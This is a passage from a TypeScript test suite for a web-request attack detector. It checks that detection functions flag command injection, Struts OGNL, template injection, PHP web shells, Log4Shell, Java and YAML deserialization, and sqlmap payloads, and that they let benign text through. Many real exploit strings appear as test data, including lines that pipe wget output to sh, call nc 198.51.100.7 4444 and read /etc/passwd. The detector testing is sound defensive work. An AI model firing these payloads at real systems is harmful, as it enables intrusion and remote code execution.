      ['whoami', 'whoami'], ['id', 'id'], ['/usr/bin/id', 'id'], ['uname -a', 'uname'], ['ls -la', 'ls'], ['cat /etc/passwd', 'cat'], ['dir C:\\', 'dir'],
      ['ipconfig /all', 'ipconfig'], ['net user', 'net'], ['wget https://198.51.100.7/x.txt', 'wget'], ['ping 127.0.0.1', 'ping'], ['netstat -an', 'netstat'],
    ];
    assert.deepEqual(attacks.map(([v]) => detectCommandParameter(v)), attacks.map(([, b]) => `${b} as the command parameter's value`));
    // elFinder's and PayPal's actions, a login shell in an admin page, words.
    const benign = ['ls', 'rm', 'chmod', 'open', 'search', '_s-xclick', '/bin/bash', 'find shoes', 'echo hello', 'login', 'sleep', 'date', 'start'];
    assert.deepEqual(hits(detectCommandParameter, benign), []);
  });

  it('reads a word alone on the line after a newline as a command only when it ends a one-token value', () => {
    // Messages and lists from a text area: lines of one word after prose, lists of words, capitalised headings.
    const benign = [
      'Hello,\nPlease find the agenda.\nDate\nTime\nPlace', 'Shopping list:\ncat\nfood\nmore', 'Q:\nWho\nA: me', 'Thanks\nDate\n', 'x\nDate',
      'Notes\n id \nsee', 'a\nb\nid', 'Agenda\r\nMore\r\n',
    ];
    assert.deepEqual(hits(detectCommandInjection, benign), []);
    // What tools append to a field's value: the command on its own line, blanks and line ends around it.
    const attacks = ['127.0.0.1\nid', '\nid\n', 'x\n id \n', '127.0.0.1\r\nid\r\n', 'x\n/usr/bin/id\nfoo', 'x\nwhoami\nfoo', 'a; id \n', 'x\ncat /etc/passwd\nmore text'];
    assert.deepEqual(misses(detectCommandInjection, attacks), []);
    assert.equal(detectCommandInjection('x\n id \n'), 'newline then id');
  });

  it("reads a User-Agent's comment items as items, and what follows a `;` outside them as shell", () => {
    // Nmap's scripts send this User-Agent on every request: `; Nmap` is a comment item, not a command.
    const nse = 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)';
    assert.equal(detectCommandInjection(nse, true), null);
    assert.equal(detectCommandInjection('Mozilla/5.0 (compatible; Wget/1.21; curl/8.5)', true), null);
    // A downloader with a URL is shell-like even inside a comment, and after a newline.
    assert.equal(detectCommandInjection('Mozilla/5.0 (compatible; wget http://198.51.100.7/x -O /tmp/x)', true), '; then wget');
    assert.equal(detectCommandInjection('x\ncurl https://198.51.100.7/a.sh'), 'newline then curl');
    assert.equal(detectCommandInjection('line one\ncurl is a tool, see https://curl.se'), null);
    // Read as any other field's value it is a separator and a command.
    assert.equal(detectCommandInjection(nse), '; then nmap');
    // Inside a comment a command with shell arguments still counts; outside one, any command does.
    assert.equal(detectCommandInjection('Mozilla/5.0 (X11; cat /etc/passwd)', true), '; then cat');
    assert.equal(detectCommandInjection('Mozilla/5.0 (X11; wget -q -O- http://198.51.100.7/x|sh)', true), '; then wget');
    assert.equal(detectCommandInjection('Mozilla/5.0 (X11); wget http://198.51.100.7/x.sh', true), '; then wget');
    assert.equal(detectCommandInjection('curl/8.5.0;nc 198.51.100.7 4444', true), '; then nc');
    assert.equal(detectCommandInjection('() { :;}; echo; echo -n abc; echo def', true), 'shellshock function definition');
    assert.equal(detectCommandInjection('Mozilla/5.0 (X11; Linux x86_64) | nmap -sS 10.0.0.0/8', true), '| then nmap');
  });
});

describe('OGNL expression injection (Apache Struts)', () => {
  it("finds the expressions of Struts' remote code execution exploits", () => {
    const attacks = [
      // CVE-2017-5638 (S2-045), as exploit scripts send it in the Content-Type.
      "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)))).(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.redirectErrorStream(true)).(#process=#p.start())}",
      // Nmap's http-vuln-cve2017-5638 probe.
      "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Check-Struts', 'nuflcvab')}.multipart/form-data",
      // CVE-2018-11776 (S2-057) in a path, S2-032's method: prefix, S2-016's redirect: prefix.
      "/${(#_memberAccess['allowStaticMethodAccess']=true).(#cmd='id').(#a=@java.lang.Runtime@getRuntime().exec(#cmd))}/actionChain1.action",
      'method:#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,@java.lang.Runtime@getRuntime().exec(#parameters.cmd[0])',
      "redirect:${#context['xwork.MethodAccessor.denyMethodExecution']=false,#f=#_memberAccess.getClass().getDeclaredField('allowStaticMethodAccess')}",
    ];
    assert.deepEqual(misses(detectOgnl, attacks), []);
    assert.equal(detectOgnl(attacks[1]), "OGNL expression injection (#context[)");
    assert.equal(detectCommandInjection(attacks[0]), 'OGNL expression injection (@ognl.OgnlContext@)');
  });

  it('reads 64 KB of hash signs, at signs and parentheses to the end', () => {
    assert.equal(detectOgnl('@a'.repeat(32768)), null);
    assert.equal(detectOgnl(`${'#context'.repeat(7000)}x`), null);
    assert.equal(detectOgnl(`${'(#'.repeat(32768)}#_memberAccess`), 'OGNL expression injection (#_memberAccess)');
    assert.equal(detectCommandInjection(`Mozilla/5.0 ${'(compatible; Nmap Scripting Engine; '.repeat(2000)}`, true), null);
    assert.equal(detectCommandInjection(`${'(; x) '.repeat(10000)}; nmap -sS 10.0.0.1`, true), '; then nmap');
  });

  it('lets Java words and hash signs in prose through', () => {
    const benign = [
      'Use new java.lang.ProcessBuilder(cmd) rather than Runtime.exec', 'mail me @ home #context', 'see com.opensymphony.xwork2.ActionContext in the docs',
      'tweet #context[1] to @java.lang', 'text/html; charset=utf-8', 'multipart/form-data; boundary=----x', 'Hello ${name}, order #12 (#13 too)',
    ];
    assert.deepEqual(hits(detectOgnl, benign), []);
  });
});

describe('expression and template injection', () => {
  it("finds template injection probes: a constant sum inside a template language's delimiters", () => {
    const probes: [string, string][] = [
      ['{{7*7}}', '{{7*7}'], ['${7*7}', '${7*7}'], ['#{7*7}', '#{7*7}'], ['*{7*7}', '*{7*7}'], ["{{7*'7'}}", "{{7*'7'}"], ['[[${7*7}]]', '${7*7}'], ['x{{ 4 + 4 }}y', '{{4+4}'],
    ];
    assert.deepEqual(probes.map(([v]) => detectTemplateProbe(v)), probes.map(([, m]) => `template injection probe (${m})`));
    assert.equal(detectCommandInjection('{{7*7}}'), 'template injection probe ({{7*7})');
    // Template variables, a JavaScript template literal, numbered placeholders.
    assert.deepEqual(hits(detectTemplateProbe, ['price {{total}}', '${count} items', 'a ${fn(x)} b', '{{7}}', '#{1} of #{2}', '{{ a * 7 }}', '{7*7}']), []);
    // ERB, EJS and ASP tags: the probe, and Ruby reaching a shell or a file; a template's own code stays quiet.
    const erb: [string, string][] = [
      ['<%= 7*7 %>', 'template injection probe (<%=7*7%>)'],
      ['<%=7*7%>', 'template injection probe (<%=7*7%>)'],
      ["<%= system('id') %>", 'template injection (ERB system)'],
      ['<%= `id` %>', 'template injection (ERB backticks)'],
      ['<%= %x(id) %>', 'template injection (ERB %x)'],
      ["<%= IO.popen('id').readlines() %>", 'template injection (ERB IO.popen)'],
      ["<%= File.open('/etc/passwd').read %>", 'template injection (ERB File.open)'],
    ];
    assert.deepEqual(erb.map(([v]) => detectTemplateProbe(v)), erb.map(([, r]) => r));
    assert.deepEqual(hits(detectTemplateProbe, ['<%= @user.name %>', '<% if admin %>yes<% end %>', '<%= link_to "Home", root_path %>', '50% <% 7 %>', '<%= 7 %> of 10']), []);
  });

  it('finds expression, template and script code that reaches commands, as exploits send it', () => {
    const attacks: [string, string][] = [
      // Spring Cloud Function's routing-expression header (CVE-2022-22963), SpEL in an error page.
      ['T(java.lang.Runtime).getRuntime().exec("touch /tmp/x")', 'expression injection (T(java.lang.Runtime))'],
      // Apache Solr's Velocity template (CVE-2019-17558); EL in JSF.
      ["#set($x='')+#set($rt=$x.class.forName('java.lang.Runtime'))+#set($ex=$rt.getRuntime().exec('id'))", "expression injection (forName('java.lang.Runtime)"],
      // Confluence (CVE-2021-26084): OGNL with \u0022 quotes to a script engine.
      ['aaa\\u0027+#{\\u0022\\u0022[\\u0022class\\u0022].forName(\\u0022javax.script.ScriptEngineManager\\u0022).newInstance()}+\\u0027', 'expression injection (forName(\\u0022javax.script.ScriptEngineManager)'],
      // WebLogic's ShellSession (CVE-2020-14882), Apache Druid's JavaScript (CVE-2021-25646), Unomi's MVEL (CVE-2020-13942).
      ['com.tangosol.coherence.mvel2.sh.ShellSession("java.lang.Runtime.getRuntime().exec(\'id\');")', 'expression injection (Runtime.getRuntime().exec()'],
      ["function(value){return java.lang.Runtime.getRuntime().exec('/bin/bash -c id')}", 'expression injection (Runtime.getRuntime().exec()'],
      ['script::Runtime r = Runtime.getRuntime(); r.exec("touch /tmp/x");', 'expression injection (Runtime.getRuntime(); r.exec()'],
      // FreeMarker (VMware Workspace ONE, CVE-2022-22954), Text4Shell (CVE-2022-42889).
      ['${"freemarker.template.utility.Execute"?new()("id")}', 'expression injection (freemarker.template.utility.Execute)'],
      ["${script:javascript:java.lang.Runtime.getRuntime().exec('touch /tmp/pwned')}", 'expression injection (${script:javascript:)'],
      // Jinja2, Twig 1 and 3, Perl Template Toolkit (Citrix CVE-2019-19781).
      ["{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", 'template injection (__class__)'],
      ["{{lipsum.__globals__.os.popen('id').read()}}", 'template injection (__globals__)'],
      ['{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}', 'template injection (registerUndefinedFilterCallback)'],
      ["{{['id']|filter('system')}}", "template injection (|filter('system')"],
      ["[% template.new({'BLOCK'='print readpipe(\"id\")'}) %]", 'template injection (template.new()'],
      // Jenkins' script console, Python's eval, ThinkPHP's class routing (CVE-2018-20062).
      ['println "cat /etc/passwd".execute().text', 'Groovy command execution (.execute())'],
      ["['bash', '-c', 'id'].execute()", 'Groovy command execution (.execute())'],
      ["__import__('os').system('id')", "Python code injection (__import__('os')"],
      ['/Index/\\think\\app/invokefunction', 'ThinkPHP class routing (think\\app/invokefunction)'],
      ['index/think\\Request/input', 'ThinkPHP class routing (think\\Request/input)'],
      // Server-side includes (Apache's mod_include).
      ['<!--#exec cmd="id" -->', 'server-side include exec'],
      ['<!-- # EXEC cgi="/cgi-bin/x.cgi" -->', 'server-side include exec'],
    ];
    assert.deepEqual(attacks.map(([v]) => detectExpressionCode(v)), attacks.map(([, reason]) => reason));
    assert.equal(detectCommandInjection("{{''.__class__.__mro__[1].__subclasses__()}}"), 'template injection (__class__)');
    assert.equal(detectCommandInjection('x&%COMSPEC% /c whoami'), '& then cmd');
    assert.equal(detectCommandInjection('<!--#include virtual="/footer.html" -->'), null);
  });

  it('lets templates, Java and Python words and Windows paths through', () => {
    const benign = [
      '{{ user.name | uppercase }}', '{% for item in items %}{{ item.title }}{% endfor %}', '{{#each items}}{{this}}{{/each}}', "{{ items|map(p => p.name)|join(', ') }}",
      "{{ ['b', 'a']|sort('asc') }}", 'def __init__(self): pass', 'package/__init__.py', 'T(n) = 2T(n/2) + n', 'Class.forName("com.mysql.jdbc.Driver")',
      'Runtime.getRuntime().totalMemory() is the heap', 'stmt.execute() returns a boolean', "db.collection('x').find()", 'C:\\think\\notes.txt',
      'I think\\ so', '{"lang":"en","tz":"Europe/London"}', 'Use new java.lang.ProcessBuilder(cmd) rather than Runtime.exec',
    ];
    assert.deepEqual(hits(detectExpressionCode, benign), []);
    assert.deepEqual(hits(detectCommandInjection, benign), []);
  });

  it('reads 64 KB of delimiters, calls and quotes to the end', () => {
    // A call counts with its opening delimiter at most 256 characters before it.
    assert.equal(detectTemplateCode(`{{ ${'x'.repeat(200)} __globals__ }}`), 'template injection (__globals__)');
    assert.equal(detectTemplateCode(`{{ ${'x'.repeat(300)} __globals__ }}`), null);
    assert.equal(detectTemplateCode(`{{${'x'.repeat(300)}${'__class__'.repeat(7000)}`), null);
    assert.equal(detectTemplateCode(`${'{{'.repeat(32000)}__init__`), 'template injection (__init__)');
    assert.equal(detectExpressionCode(`'${' '.repeat(65536)}`), null);
    assert.equal(detectExpressionCode('Runtime.getRuntime()'.repeat(3000)), null);
    assert.equal(detectExpressionCode(`/think\\${'a'.repeat(65536)}`), null);
    assert.equal(detectExpressionCode('\\think\\'.repeat(9362)), null);
  });
});

describe('Java deserialization gadgets', () => {
  it('finds the classes exploits instantiate, by name and inside a base64 serialized object', () => {
    assert.equal(detectJavaGadget('com.sun.rowset.JdbcRowSetImpl'), 'Java deserialization gadget (JdbcRowSetImpl)');
    assert.equal(detectJavaGadget('Lcom.sun.rowset.JdbcRowSetImpl;'), 'Java deserialization gadget (JdbcRowSetImpl)');
    assert.equal(detectJavaGadget('<handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder">'), 'Java deserialization gadget (EventHandler)');
    const serialized = Buffer.concat([Buffer.from([0xac, 0xed, 0, 5]), Buffer.from('sr\x00\x3aorg.apache.commons.collections.functors.InvokerTransformer', 'latin1')]).toString('base64');
    assert.equal(detectJavaGadget(serialized), 'Java deserialization gadget (InvokerTransformer)');
  });

  it('lets JSON-LD types, Java words and serialized objects of other classes through', () => {
    const plain = Buffer.concat([Buffer.from([0xac, 0xed, 0, 5]), Buffer.from('sr\x00\x10java.util.HashMap', 'latin1')]).toString('base64');
    assert.deepEqual([detectJavaGadget('Person'), detectJavaGadget('java.util.ArrayList'), detectJavaGadget('see the rowset docs.'), detectJavaGadget(plain)], [null, null, null, null]);
  });
});

describe('YAML deserialization tags', () => {
  it("finds Ruby's, PyYAML's and SnakeYAML's object-building tags, and lets YAML without them through", () => {
    assert.equal(detectYamlGadget('<probe type="yaml"><![CDATA[\n--- !ruby/object:Time {}\n\n]]></probe>'), 'YAML deserialization tag !ruby/object');
    assert.equal(detectYamlGadget('--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\nfoo: bar'), 'YAML deserialization tag !ruby/hash');
    assert.equal(detectYamlGadget('!!python/object/apply:os.system ["id"]'), 'YAML deserialization tag !!python/object/apply');
    assert.equal(detectYamlGadget('!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]'), 'YAML deserialization tag !!javax.script.ScriptEngineManager');
    assert.deepEqual(['--- \nname: ann\ntags: [a, b]', 'Hello! ruby/object is a path', '!important', 'see !!python docs'].map(detectYamlGadget), [null, null, null, null]);
  });
});

describe('PHP code injection', () => {
  it("finds calls that run commands or code where a string is evaluated, and scanners' exit(md5()) markers", () => {
    const attacks = [
      // wapiti's exec module, and a CVE probe of Nmap's (CM Download Manager).
      ";exit(md5('w4p1t1_md5'));//", "a;exit(md5('w4p1t1_md5'));#", "'.exit(md5('w4p1t1_md5'));//", '";exit(md5(\'w4p1t1_md5\'));//',
      '".base64_decode("cnFnbWlhdXFyb2xqdGZ3")."', '${@phpinfo()}', '{${phpinfo()}}', "';system('id');//", ';phpinfo();',
      "1';passthru('cat /etc/passwd');#", "<?php system($_GET['c']); ?>", "<?php @eval($_POST['x']);?>",
    ];
    assert.deepEqual(misses(detectPhpCode, attacks), []);
    assert.equal(detectCommandInjection("';system('id');//"), 'PHP code injection (system)');
    assert.equal(detectCommandInjection(";exit(md5('w4p1t1_md5'));//"), 'PHP code injection (exit)');
    // After closing the call the string was in (wfuzz's XML list): `',''));phpinfo();`.
    assert.equal(detectPhpCode("<name>',''));phpinfo();exit;/*</name>"), 'PHP code injection (phpinfo)');
    assert.equal(detectPhpCode("x')); system('id');"), 'PHP code injection (system)');
    assert.equal(detectPhpCode("He said 'hi')); phpinfo is a function"), null);
    // Server-side JavaScript: wapiti's busy-wait after a string break, Node's child_process.
    assert.equal(detectCommandInjection("';d=new Date();do{cd=new Date();}while(cd-d<10000);//"), 'server-side JavaScript injection');
    assert.equal(detectCommandInjection("require('child_process').execSync('id')"), 'server-side JavaScript injection');
    assert.deepEqual(hits(detectCommandInjection, ["it's done; new Date() is how you get time // see docs", "Tom's; setTimeout(fn, 5); // later", 'he said "ok"; for (i in x) nothing']), []);
    // PHP's backtick shell on a request value: the smallest web shell.
    assert.equal(detectPhpCode('<?=`$_GET[0]`?>'), 'PHP code injection (backtick shell)');
    assert.equal(detectPhpCode('text with ` and <? in it'), null);
    // A server page's call counts with its `<%` at most 512 characters before it; 64 KB of `<%` is read once.
    assert.equal(detectServerPage(`<% ${'x'.repeat(400)} Runtime.getRuntime().exec(c) %>`), 'server page code (Runtime.getRuntime().exec)');
    assert.equal(detectServerPage(`<% ${'x'.repeat(600)} Runtime.getRuntime().exec(c) %>`), null);
    assert.equal(detectServerPage('<%'.repeat(32768)), null);
    assert.equal(detectServerPage(`${'<%'.repeat(32768)} eval request("c")`), 'server page code (eval request)');
    // Scanners' echo md5 of a constant; a page's echo md5($password) is PHP doing its job.
    assert.equal(detectPhpCode("<?php echo md5('phpunit'); ?>"), 'PHP code injection (echo md5)');
    assert.equal(detectPhpCode('<?php echo md5($password); ?>'), null);
    // Argument names a framework binds to objects.
    assert.equal(detectBoundName('class[module][classLoader][resources]', 'x'), 'Spring class loader binding (class.module.classLoader)');
    assert.equal(detectBoundName('a[#lazy_builder]', 'x'), 'Drupal render array callback (#lazy_builder)');
    assert.deepEqual(['classes.module.loader', 'myclass.module.classloader', 'user[#markup]', 'user[name]'].map((n) => detectBoundName(n, 'x')), [null, null, null, null]);
    assert.equal(detectBoundName('_method', ' __CONSTRUCT'), 'ThinkPHP method override (_method=__construct)');
    assert.deepEqual([detectBoundName('_method', 'PUT'), detectBoundName('method', '__construct')], [null, null]);
    // 64 KB of closed arguments: each try reads a few.
    assert.equal(detectPhpCode(`'${",''".repeat(20000)};phpinfo`), null);
    assert.equal(detectPhpCode(`'${",''".repeat(20000)};phpinfo()`), 'PHP code injection (phpinfo)');
    // A whole statement starting the value, where an application evaluates a field (vBulletin's widget code).
    assert.equal(detectPhpCode("echo shell_exec('id'); exit;"), 'PHP code injection (shell_exec)');
    assert.equal(detectPhpCode("system('id');"), 'PHP code injection (system)');
    assert.equal(detectPhpCode('system (a.k.a. the OS); see docs'), null);
  });

  it('finds a whole value that is one call of a PHP function that runs code, and complex string syntax calling one', () => {
    const calls: [string, string][] = [
      ["system('id')", 'system'], ['phpinfo()', 'phpinfo'], ['phpinfo();', 'phpinfo'], ["eval('ls')", 'eval'], ['@passthru("uname -a");', 'passthru'],
      ['{${sleep(20)}}', 'sleep'], ['${@print(md5(RCEVulnerable))}', 'print'], ["a;${@print(system($_SERVER['HTTP_USER_AGENT']))}", 'print'],
    ];
    assert.deepEqual(calls.map(([v]) => detectPhpCode(v)), calls.map(([, f]) => `PHP code injection (${f})`));
    assert.deepEqual(hits(detectPhpCode, ["System('s') go", 'system(s) go', 'call system() twice', 'a ${fn(x)} b', "exec('a') and exec('b')", 'eval(x)']), []);
  });

  it('lets PHP words in prose and markup through', () => {
    const benign = [
      "It's a system (really)", "'hello'. System(s) go", "'use strict'; console.log(1)", 'print("hi")', "Use exec() carefully; it's dangerous",
      "the 'eval' (function)", '<?xml version="1.0"?><a>system(1)</a>', "md5('x') is weak", 'the "base64" (decode) step',
    ];
    assert.deepEqual(hits(detectPhpCode, benign), []);
    // 64 KB of openings without a call: each looked at once, within its bounded window.
    assert.equal(detectPhpCode(`<?php${' x('.repeat(20000)}`), null);
    assert.equal(detectPhpCode(`${"'.".repeat(30000)}(`), null);
  });
});

describe('log4shell', () => {
  it('resolves nested lookups the way Log4j would', () => {
    assert.equal(detectLog4shell('${jndi:ldap://evil/a}'), 'jndi lookup ldap://evil/a');
    assert.equal(detectLog4shell('${${lower:j}ndi:ldap://x/a}'), 'jndi lookup ldap://x/a');
    assert.equal(detectLog4shell('${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}'), 'jndi lookup rmi://x/a');
    assert.equal(detectLog4shell('${j${env:NaN:-n}di:dns://x}'), 'jndi lookup dns://x');
    assert.equal(detectLog4shell('${${upper:J}NDI:ldap://x}'), 'jndi lookup ldap://x');
    assert.equal(detectLog4shell('${${base64:JHtqbmRpOmxkYXA6Ly94L2F9}}'), 'jndi lookup ldap://x/a');
    assert.equal(detectLog4shell("a ${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x/a}"), 'jndi lookup ldap://x/a');
    assert.equal(detectLog4shell('${jNdI:ldap://x'), 'jndi lookup ldap://x');
  });

  it('lets template placeholders through', () => {
    assert.deepEqual(hits(detectLog4shell, ['${name}', 'Hello ${user.name}!', '{"a":"${x}"}', 'price $5 {x}', '${'.repeat(100)]), []);
  });
});

describe('payloads of real tools', () => {
  it("finds sqlmap's stacked queries behind its other boundaries (test/fixtures/web/sqlmap_post.pcap)", () => {
    const boundaries = [
      "ann')) AS JoGg WHERE 5897=5897;SELECT LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(100000000/2))))--",
      'ann") AS BUuk WHERE 7949=7949;SELECT LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(100000000/2))))--',
      'ann"="ann";SELECT LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(100000000/2))))--',
      "ann' IN BOOLEAN MODE);SELECT LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(100000000/2))))#",
      'ann` WHERE 6258=6258;SELECT LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(100000000/2))))--',
      'ann`) WHERE 6056=6056;SELECT LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(100000000/2))))--',
      'ann`=`ann`;SELECT LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(100000000/2)))) AND `ann`=`ann',
      "ann') ;(SELECT * FROM (SELECT(SLEEP(5)))omuS)#",
    ];
    assert.deepEqual(misses(detectSqli, boundaries), []);
    assert.deepEqual(detectSqli(boundaries[0]), { rule: 'stacked query after string break', fingerprint: 's))bbWnon;El(f(n,n,n,n,n,n,n),f(f(G(n+n))))c' });
    assert.deepEqual(detectSqli(boundaries[4]), { rule: 'stacked query after string break', fingerprint: 'sWnon;El(f(n,n,n,n,n,n,n),f(f(G(n+n))))c' });
  });

  it("finds sqlmap's level 1-2 payloads for other databases", () => {
    const payloads = [
      '1 RLIKE (SELECT (CASE WHEN (7410=6132) THEN 1 ELSE 0x28 END))', '(CASE WHEN 1743=5437 THEN 9360 ELSE NULL END)',
      '(CASE WHEN (5886=7423) THEN SLEEP(5) ELSE 1670 END)', '1 ,(SELECT (CASE WHEN (7923=2142) THEN 1 ELSE 6819*(SELECT 2097 FROM INFORMATION_SCHEMA.PLUGINS) END))',
      "1 AND 5648 IN (SELECT ('qqbxq'+(SELECT (CASE WHEN (4603=4283) THEN '1' ELSE '0' END))+'qzbqq'))",
      "ann' PROCEDURE ANALYSE(EXTRACTVALUE(3481,CONCAT('\\','qqbxq',(SELECT (CASE WHEN (5250=5579) THEN 1 ELSE 0 END)),'qzbqq')),1)  AND 'lXUN'='fUxv",
      "(SELECT CONCAT('qqbxq',(ELT(7956=4020,1)),'qzbqq'))", "1) WAITFOR DELAY '0:0:5'  AND (7302=4338", '1 WAITFOR DELAY @x', 'MAKE_SET(9026=3450,2824)',
      'ELT(2775=9724,8611)', '(9762=3573)*8989', 'IIF(2400=7361,9310,1/0)', '1) HAVING 3617=6130', '1 WHERE 1281=6330 AND 7591=5609 -- -',
      "ann') WHERE 5880=3592 AND 7818=5134 -- -", '1) ;IF(6786=4910) SELECT 5636 ELSE DROP FUNCTION fWWk--', '1`=`1` AND ELT(3990=7368,9713)  AND `1`=`1',
    ];
    assert.deepEqual(misses(detectSqli, payloads), []);
  });

  it("finds sqlmap's level 5 payloads after a word (a text field, a cookie, a header) and its heavy queries", () => {
    const payloads = [
      'shoes WHERE 6347=6347 AND 4339=5997-- cpLs', 'abc123 WHERE 9002=9002 OR NOT 5779=3601-- AbpM',
      'shoes"="shoes";IF(1121=2587) SELECT 1121 ELSE DROP FUNCTION LJzd--', '1"="1";IF(1121=2587) SELECT 1121 ELSE DROP FUNCTION LJzd--',
      'shoes`=`shoes`;SELECT CASE WHEN 9368=9035 THEN 1 ELSE NULL END--', 'dark`=`dark`;SELECT CASE WHEN 8445=2845 THEN 1 ELSE NULL END--',
      'shoes AND CHAR(101)||CHAR(112)||CHAR(116)||CHAR(102)=REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(3800),0),1000000000),NULL)',
      'shoes))) OR CHAR(86)||CHAR(66)||CHAR(69)||CHAR(90)=REGEXP_SUBSTRING(REPEAT(LEFT(CRYPT_KEY(CHAR(65)||CHAR(69)||CHAR(83),NULL),0),100000000),NULL)--',
      'shoes WHERE 2048=2048 AND CHAR(101)||CHAR(112)||CHAR(116)||CHAR(102)=REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(3800),0),1000000000),NULL)-- ghnv',
      '10.99.0.2 AND CHAR(74)||CHAR(78)||CHAR(101)||CHAR(105)=REGEXP_SUBSTRING(REPEAT(LEFT(CRYPT_KEY(CHAR(65)||CHAR(69)||CHAR(83),NULL),0),100000000),NULL)# MkHO',
    ];
    assert.deepEqual(misses(detectSqli, payloads), []);
    assert.deepEqual(detectSqli(payloads[0]), { rule: 'where or having clause', fingerprint: 'bWnon&nonc' });
    assert.deepEqual(detectSqli(payloads[4]), { rule: 'stacked query after string break', fingerprint: 'sob;ECbnonbnbnbc' });
    // Appended to a User-Agent whose own `#` would comment them out.
    const ua = 'sqlmap/1.7.2#stable (https://sqlmap.org)';
    const appended = [
      `${ua},IIF(7501=3674,1,1/0)`, `${ua};IIF(7579=8096,1,1/0)`, `${ua}));IIF(3115=9355,1,1/0)`, `${ua},(CASE WHEN 7959=1541 THEN 1 ELSE NULL END)`,
      `${ua},RAISE_ERROR(CHR(55)||CHR(48),CHR(113)||(SELECT (CASE WHEN (1441=1441) THEN 1 ELSE 0 END) FROM SYSIBM.SYSDUMMY1)||CHR(113))`,
      `${ua} (SELECT COUNT(*) FROM INFORMATION_SCHEMA.COLUMNS A, INFORMATION_SCHEMA.COLUMNS B, INFORMATION_SCHEMA.COLUMNS C)`,
      `${ua})(SELECT COUNT(*) FROM INFORMATION_SCHEMA.COLUMNS A, INFORMATION_SCHEMA.COLUMNS B)-- iLZi`,
    ];
    assert.deepEqual(misses((v) => detectSqli(v, true), appended), []);
    assert.deepEqual(detectSqli(appended[0], true), { rule: 'condition in function call', fingerprint: 'n),f(non,n,n+n)' });
    assert.deepEqual(
      hits(detectSqli, ['rows where 5 = 5 and more -- see docs', 'tom and jerry(1990) = classic(2)', 'cats and dogs (2) = pets (3)', 'size AND width(10)=height(20)', 'price where 10 > 5 and 3 < 4']),
      [],
    );
    // A text field of several words (`comment=nice shoes`): what follows them reads as after one word.
    const afterWords = ['nice shoes AND 3905=3414', 'nice shoes) OR NOT 2431=8931-- kUvT', 'nice shoes))) AND 6158=5087 AND (((9360=9360', 'nice shoes ORDER BY 1#', 'nice shoes) HAVING 1014=6421-- nyjC'];
    assert.deepEqual(misses(detectSqli, afterWords), []);
    assert.deepEqual(detectSqli(afterWords[0]), { rule: 'tautology', fingerprint: 'b&non' });
    assert.deepEqual(
      hits(detectSqli, ['some text or other = fine', 'Enable explanations and select the explanation method to use.', 'fast computation of e and exp(n) when precision is high', 'read chapters and 2-3', 'I like red or blue and more']),
      [],
    );
    assert.deepEqual(
      hits((v) => detectSqli(v, true), ['Foo/1.0 (select one) bar', 'Foo/1.0 ;max(3) x', 'Dalvik/2.1.0 (Linux; U; Android 11; SM-G991B Build/RP1A.200720.012)', 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)']),
      [],
    );
  });

  it("finds sqlmap's heuristic probe behind the bytes its tampers put before quotes, and a delay selected FROM", () => {
    const probes = ["shoes(,.,,.\x00'))\"", "shoes\\\").),.),\\'.", "shoes(\xbf').\".(((,-- -", "shoes(\ufffd').\".(((,-- -", "shoes' 1.e. 1.e. 1.e.\" 1.e, 1.e. 1.e)( 1.e,"];
    assert.deepEqual(probes.map((v) => detectSqli(v)?.rule ?? null), Array(probes.length).fill('syntax-breaking probe'));
    assert.deepEqual(detectSqli('shoes AND 1681 BETWEEN (SELECT AND (SELECT1681 FROM PG_SLEEP(1))-- Jttn')?.rule, 'time delay function');
    // The between tamper's heavy queries (sqlmap 1.7.2, --level 3 --risk 3 on a text field): 49 of 2,205 requests, missed before.
    const heavy = [
      'shoes) AND 9951 BETWEEN (SELECT AND (SELECTCOUNT(*) FROM INFORMATION_SCHEMA.COLUMNS A, INFORMATION_SCHEMA.COLUMNS B, INFORMATION_SCHEMA.COLUMNS C)-- nZGk',
      'shoes OR 6340 BETWEEN (SELECT AND (SELECTCOUNT(*) FROM SYSIBM.SYSTABLES AS T1,SYSIBM.SYSTABLES AS T2,SYSIBM.SYSTABLES AS T3)',
      'shoes)/**/AnD/**/1470/**/BeTWeEN/**/(SEleCt/**/AnD/**/(SEleCtCOUNT(*)/**/FROm/**/ALL_USERS/**/T1,ALL_USERS/**/T2)--/**/',
    ];
    assert.deepEqual(heavy.map((v) => detectSqli(v)?.rule ?? null), Array(heavy.length).fill('boolean with function or subquery'));
    assert.deepEqual(detectSqli(heavy[0])?.fingerprint, 'b)&nl(E&(f(+)Fb.bb,b.bb,b.bb)c');
    assert.deepEqual(hits(detectSqli, ['cats and 2 like (select one)', 'sizes and 10 between (select a range)', 'pets and 3 like (select one or two)']), []);
    assert.deepEqual(hits(detectSqli, ['recover from sleep(3) mode', 'version 1.e5 (x, y). "ok"', '...\\\\...,,,', 'a (b), "c", \'d\'.']), []);
  });

  it('lets prose and code spans with the new shapes pass', () => {
    const benign = [
